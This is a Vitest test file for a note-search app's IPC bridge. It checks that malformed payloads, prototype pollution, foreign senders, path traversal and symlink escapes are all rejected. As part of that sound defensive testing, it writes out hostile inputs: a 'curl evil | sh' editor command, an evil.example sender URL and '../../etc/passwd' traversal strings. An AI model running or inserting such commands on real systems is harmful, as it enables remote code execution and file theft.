// IPC layer: every call validates its payload and its sender, replies with a typed envelope, and never throws across the bridge.
import { readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { pathToFileURL } from 'node:url'
import { describe, expect, it } from 'vitest'
import { API_CALL_NAMES, callChannel, type ApiCallName, type ApiReply } from '../../src/shared/api'
import { DEFAULT_SETTINGS } from '../../src/shared/types'
import { isErrorCode } from '../../src/main/error-codes'
import { createIpcHarness, OUR_WEB_CONTENTS } from './ipc-harness'
import { rng } from '../helpers/rng'

type Harness = ReturnType<typeof createIpcHarness>

/** A valid argument list for every call (void calls take none). */
function validArgs(h: Harness): { [K in ApiCallName]: unknown[] } {
  return {
    search: [{ query: 'noise at night', mode: 'hybrid', filters: { extensions: ['md'], roots: [h.notesRoot] }, limit: 10, scoreSentences: false }],
    highlightSentence: [{ query: 'noise at night', text: 'Loud music upstairs. Quiet mornings.' }],
    related: [{ path: h.note, limit: 5 }],
    status: [],
    previewRoot: [{ path: h.notesRoot }],
    addRoots: [{ paths: [h.outside] }],
    removeRoot: [{ path: h.notesRoot }],
    indexFiles: [{ paths: [h.note] }],
    pauseIndexing: [],
    resumeIndexing: [],
    readNote: [{ path: h.note }],
    openNote: [{ path: h.note, line: 2 }],
    revealNote: [{ path: h.note }],
    getSettings: [],
    updateSettings: [{ theme: 'dark' }],
    chooseFolder: [],
    retryModelDownload: [],
    chooseModelFolder: [],
    hidePopup: [],
    addSampleNotes: [],
    shellStatus: [],
    map: [{ wait: false }],
    mapLocate: [{ query: 'noise at night' }]
  }
}

const expectError = (reply: ApiReply<unknown>, code: string) => {
  expect(reply.ok).toBe(false)
  if (!reply.ok) expect(reply.error.code).toBe(code)
}

describe('IPC registration', () => {
  it('registers exactly one handler per API call and removes them all', () => {
    const h = createIpcHarness()
    expect([...h.handlers.keys()].sort()).toEqual(API_CALL_NAMES.map(callChannel).sort())
    h.unregister()
    expect(h.handlers.size).toBe(0)
  })
})

describe('valid calls', () => {
  it.each(API_CALL_NAMES)('%s succeeds with a valid payload from our window', async (name) => {
    const h = createIpcHarness()
    const reply = await h.invoke(name, validArgs(h)[name])
    expect(reply).toMatchObject({ ok: true })
  })

  it('forwards engine calls and reflects root changes in the settings', async () => {
    const h = createIpcHarness()
    const reply = await h.invoke('addRoots', [{ paths: [h.outside] }])
    expect(reply.ok).toBe(true)
    expect(h.settings.get().roots).toEqual([h.notesRoot, h.outside])
    await h.invoke('removeRoot', [{ path: h.notesRoot }])
    expect(h.settings.get().roots).toEqual([h.outside])
  })

  it('hands the system proxy, when there is one, to the engine with a model download retry', async () => {
    const h = createIpcHarness()
    await h.invoke('retryModelDownload')
    const proxy = { httpsProxy: 'http://proxy.corp:3128', httpProxy: 'http://proxy.corp:3128', noProxy: '' }
    h.setDownloadProxy(proxy)
    await h.invoke('retryModelDownload')
    expect(h.engineCalls.filter((c) => c.name === 'retryModelDownload').map((c) => c.arg)).toEqual([undefined, { proxy }])
  })
})

/** Payloads that are wrong for `name` by construction. */
function malformedArgs(h: Harness, name: ApiCallName): unknown[][] {
  const valid = validArgs(h)[name]
  const huge = 'x'.repeat(1_000_000)
  const wrongTypes: unknown[] = [null, 42, 'text', true, [], [1, 2], Number.NaN]
  if (valid.length === 0) return [[{}], ['x'], [0], [null], [{ __proto__: { admin: true } }], [huge], [undefined, 'extra']]
  const base = valid[0] as Record<string, unknown>
  const cases: unknown[][] = wrongTypes.map((value) => [value])
  cases.push([]) // missing payload
  cases.push([{ ...base, extraKey: 1 }])
  cases.push([JSON.parse(`{"__proto__": {"polluted": true}, ${JSON.stringify(base).slice(1)}`)])
  cases.push([{ ...base, constructor: { prototype: { polluted: true } } }])
  cases.push([base, 'second argument'])
  for (const key of Object.keys(base)) {
    cases.push([{ ...base, [key]: { nested: true } }])
    cases.push([{ ...base, [key]: typeof base[key] === 'string' ? huge : 'wrong type' }])
  }
  return cases
}

describe('malformed payloads', () => {
  it.each(API_CALL_NAMES)('%s rejects malformed payloads with INVALID_PAYLOAD', async (name) => {
    const h = createIpcHarness()
    const callsBefore = h.engineCalls.length
    for (const args of malformedArgs(h, name)) {
      const reply = await h.invoke(name, args)
      expectError(reply, 'INVALID_PAYLOAD')
    }
    expect(h.engineCalls.length).toBe(callsBefore)
    expect(({} as Record<string, unknown>).polluted).toBeUndefined()
    expect(h.settings.get().theme).toBe(DEFAULT_SETTINGS.theme)
  })

  it('rejects oversized arrays and deep nesting before parsing them', async () => {
    const h = createIpcHarness()
    expectError(await h.invoke('indexFiles', [{ paths: Array.from({ length: 30_000 }, (_, i) => `/n/${i}.md`) }]), 'INVALID_PAYLOAD')
    let deep: unknown = 'leaf'
    for (let i = 0; i < 50; i++) deep = { filters: deep }
    expectError(await h.invoke('search', [deep]), 'INVALID_PAYLOAD')
    expectError(await h.invoke('search', [{ query: 'q', filters: { roots: ['/a\0b'] } }]), 'INVALID_PAYLOAD')
  })
})

describe('foreign senders', () => {
  it.each(API_CALL_NAMES)('%s refuses every sender that is not our renderer', async (name) => {
    const h = createIpcHarness()
    const page = (url: string) => ({ sender: { id: OUR_WEB_CONTENTS }, senderFrame: { url, parent: null } })
    const foreign = [
      { sender: { id: 99 }, senderFrame: h.ourEvent.senderFrame },
      page('https://evil.example/index.html'),
      page(pathToFileURL(join(h.outside, 'index.html')).href),
      page(pathToFileURL(join(h.rendererDir, '..', 'renderer-evil', 'index.html')).href),
      page(`${pathToFileURL(h.rendererDir).href}/../../outside/x.html`),
      page('file://remote-host/share/index.html'),
      page('http://localhost:5173/index.html'),
      page('devtools://devtools/bundled/inspector.html'),
      page('not a url'),
      { sender: { id: OUR_WEB_CONTENTS }, senderFrame: { url: h.ourEvent.senderFrame!.url, parent: {} } },
      { sender: { id: OUR_WEB_CONTENTS }, senderFrame: null }
    ]
    for (const event of foreign) expectError(await h.invoke(name, validArgs(h)[name], event), 'FORBIDDEN_SENDER')
    expect(h.engineCalls).toEqual([])
  })
})

describe('3. sample notes', () => {
  it('are copied into the user data folder before being added, so they survive the install folder moving', async () => {
    const h = createIpcHarness()
    const reply = await h.invoke('addSampleNotes')
    expect(reply.ok).toBe(true)
    const added = h.engineCalls.filter((c) => c.name === 'addRoots').map((c) => (c.arg as { paths: string[] }).paths)
    expect(added).toHaveLength(1)
    const [root] = added[0]
    expect(root.startsWith(join(h.base, 'userData'))).toBe(true)
    // The AppImage is unmounted (next start mounts elsewhere): the root and its notes are still there.
    rmSync(join(h.base, 'tmp'), { recursive: true })
    expect(readdirSync(root)).toEqual(['夜の騒音.md'])
    expect(h.settings.get().roots).toContain(root)
  })

  it('keep a sample the user edited when added again', async () => {
    const h = createIpcHarness()
    await h.invoke('addSampleNotes')
    const root = (h.engineCalls.find((c) => c.name === 'addRoots')!.arg as { paths: string[] }).paths[0]
    writeFileSync(join(root, '夜の騒音.md'), 'edited\n')
    await h.invoke('addSampleNotes')
    expect(readFileSync(join(root, '夜の騒音.md'), 'utf8')).toBe('edited\n')
  })
})

describe('open, reveal and read', () => {
  it('open/reveal/read refuse paths outside the indexed roots, including traversal and symlinks', async () => {
    const h = createIpcHarness()
    const link = join(h.notesRoot, 'escape.md')
    symlinkSync(join(h.outside, 'secret.md'), link)
    const outsidePaths = [join(h.outside, 'secret.md'), `${h.notesRoot}/../outside/secret.md`, link, h.notesRoot]
    for (const path of outsidePaths) {
      for (const name of ['openNote', 'revealNote', 'readNote'] as const) expectError(await h.invoke(name, [{ path }]), 'PATH_OUTSIDE_ROOTS')
    }
    expect(h.opened).toEqual([])
    expect(h.revealed).toEqual([])
    expect(h.engineCalls.filter((c) => c.name === 'readNote')).toEqual([])
  })

  it('opens and reveals notes inside a root at their resolved path', async () => {
    const h = createIpcHarness()
    expect(await h.invoke('openNote', [{ path: `${h.notesRoot}/./tokyo.md`, line: 2 }])).toEqual({ ok: true })
    expect(await h.invoke('revealNote', [{ path: h.note }])).toEqual({ ok: true })
    expect(h.opened).toEqual([{ file: h.note, line: 2 }])
    expect(h.revealed).toEqual([h.note])
  })
})

describe('roots and files are checked on disk', () => {
  it('refuses missing folders, files given as roots and folders given as files', async () => {
    const h = createIpcHarness()
    expectError(await h.invoke('addRoots', [{ paths: [join(h.base, 'nope')] }]), 'NOT_FOUND')
    expectError(await h.invoke('addRoots', [{ paths: [h.note] }]), 'INVALID_PAYLOAD')
    expectError(await h.invoke('addRoots', [{ paths: ['relative/notes'] }]), 'INVALID_PAYLOAD')
    expectError(await h.invoke('indexFiles', [{ paths: [h.notesRoot] }]), 'INVALID_PAYLOAD')
    expectError(await h.invoke('previewRoot', [{ path: h.note }]), 'INVALID_PAYLOAD')
    expect(h.engineCalls).toEqual([])
  })
})

describe('updateSettings side effects', () => {
  it('needs a native confirmation before saving a new editor command', async () => {
    const h = createIpcHarness()
    h.setConfirmAnswer(false)
    expectError(await h.invoke('updateSettings', [{ editorCommand: 'sh -c "curl evil | sh"' }]), 'CANCELLED')
    expect(h.settings.get().editorCommand).toBe('')
    h.setConfirmAnswer(true)
    const reply = await h.invoke('updateSettings', [{ editorCommand: 'code -g {file}:{line}' }])
    expect(reply).toMatchObject({ ok: true, value: { editorCommand: 'code -g {file}:{line}' } })
    expect(h.effects).toEqual(['confirm:sh -c "curl evil | sh"', 'confirm:code -g {file}:{line}'])
  })

  it('reports a taken hotkey as HOTKEY_CONFLICT and keeps the old one', async () => {
    const h = createIpcHarness()
    h.setHotkeyTaken(true)
    expectError(await h.invoke('updateSettings', [{ hotkey: 'Alt+Space' }]), 'HOTKEY_CONFLICT')
    expect(h.settings.get().hotkey).toBe(DEFAULT_SETTINGS.hotkey)
    h.setHotkeyTaken(false)
    expect(await h.invoke('updateSettings', [{ hotkey: 'Alt+Space', launchAtLogin: true, modelId: 'semnote-lite-v1' }])).toMatchObject({ ok: true })
    expect(h.effects).toEqual(['hotkey:Alt+Space', 'login:true', 'restart'])
  })

  it('turns the Local API on and off, and keeps it off when it cannot start', async () => {
    const h = createIpcHarness()
    h.setLocalApiPortTaken(true)
    expectError(await h.invoke('updateSettings', [{ localApi: true }]), 'ENGINE_UNAVAILABLE')
    expect(h.settings.get().localApi).toBe(false)
    h.setLocalApiPortTaken(false)
    expect(await h.invoke('updateSettings', [{ localApi: true }])).toMatchObject({ ok: true, value: { localApi: true } })
    expect(await h.invoke('updateSettings', [{ theme: 'dark' }])).toMatchObject({ ok: true, value: { localApi: true, theme: 'dark' } })
    expect(await h.invoke('updateSettings', [{ localApi: false }])).toMatchObject({ ok: true, value: { localApi: false } })
    expect(h.effects).toEqual(['localApi:true', 'localApi:false'])
    expectError(await h.invoke('updateSettings', [{ localApi: 'yes' }]), 'INVALID_PAYLOAD')
  })

  it('restarts the engine for a new indexing thread count, and refuses counts that are not 0 (automatic) to 64', async () => {
    const h = createIpcHarness()
    expect(await h.invoke('updateSettings', [{ indexingThreads: 3 }])).toMatchObject({ ok: true, value: { indexingThreads: 3 } })
    expect(await h.invoke('updateSettings', [{ theme: 'dark' }])).toMatchObject({ ok: true, value: { indexingThreads: 3 } })
    expect(await h.invoke('updateSettings', [{ indexingThreads: 0 }])).toMatchObject({ ok: true, value: { indexingThreads: 0 } })
    expect(h.effects).toEqual(['restart', 'restart'])
    for (const bad of [-1, 2.5, 65, Number.NaN, '4', null]) expectError(await h.invoke('updateSettings', [{ indexingThreads: bad }]), 'INVALID_PAYLOAD')
    expect(h.settings.get().indexingThreads).toBe(0)
    expect(h.effects).toEqual(['restart', 'restart'])
  })

  it('applies ignore patterns and root changes through the engine', async () => {
    const h = createIpcHarness()
    await h.invoke('updateSettings', [{ ignorePatterns: ['*.tmp'], roots: [h.outside] }])
    expect(h.engineCalls.map((c) => c.name)).toEqual(['setIgnorePatterns', 'removeRoot', 'addRoots'])
    expect(h.settings.get()).toMatchObject({ ignorePatterns: ['*.tmp'], roots: [h.outside] })
  })
})

describe('fuzzing every call', () => {
  it('answers random malformed payloads with typed errors and never throws', async () => {
    const h = createIpcHarness()
    const random = rng(20261122)
    const pick = <T>(items: readonly T[]) => items[Math.floor(random() * items.length)]
    const keys = ['query', 'path', 'paths', 'limit', 'mode', 'filters', 'theme', 'hotkey', '__proto__', 'constructor', 'prototype', 'x'.repeat(300)]
    const value = (depth: number): unknown => {
      switch (Math.floor(random() * 9)) {
        case 0:
          return 'é'.repeat(Math.floor(random() * 20_000))
        case 1:
          return pick([0, -1, 1e308, Number.NaN, Number.POSITIVE_INFINITY, 3.5, -0])
        case 2:
          return pick([true, false, null])
        case 3:
          return depth > 8 ? 'deep' : Array.from({ length: Math.floor(random() * 5) }, () => value(depth + 1))
        case 4:
        case 5: {
          if (depth > 8) return {}
          const entries = Array.from({ length: 1 + Math.floor(random() * 4) }, () => [pick(keys), value(depth + 1)])
          // fromEntries defines own properties, so a "__proto__" entry stays a key as it would after structured clone.
          return Object.fromEntries(entries)
        }
        case 6:
          return '\0../../etc/passwd'
        case 7:
          return BigInt(7)
        default:
          return new Date(0)
      }
    }
    let replies = 0
    for (const name of API_CALL_NAMES) {
      for (let round = 0; round < 60; round++) {
        const payload = value(0)
        // Invalid by construction: no call takes a primitive, array or Date, and no schema knows "unexpectedKey".
        const isPlainObject = typeof payload === 'object' && payload !== null && Object.getPrototypeOf(payload) === Object.prototype
        const args = isPlainObject ? [{ ...payload, unexpectedKey: value(1) }] : [payload]
        const reply = await h.invoke(name, args)
        replies++
        expect(reply.ok, `${name} accepted ${String(args[0]).slice(0, 80)}`).toBe(false)
        if (!reply.ok) {
          expect(isErrorCode(reply.error.code)).toBe(true)
          expect(['INVALID_PAYLOAD', 'NOT_FOUND', 'PATH_OUTSIDE_ROOTS']).toContain(reply.error.code)
          expect(typeof reply.error.message).toBe('string')
        }
      }
    }
    expect(replies).toBeGreaterThan(API_CALL_NAMES.length * 50)
    expect(({} as Record<string, unknown>).polluted).toBeUndefined()
  })
})
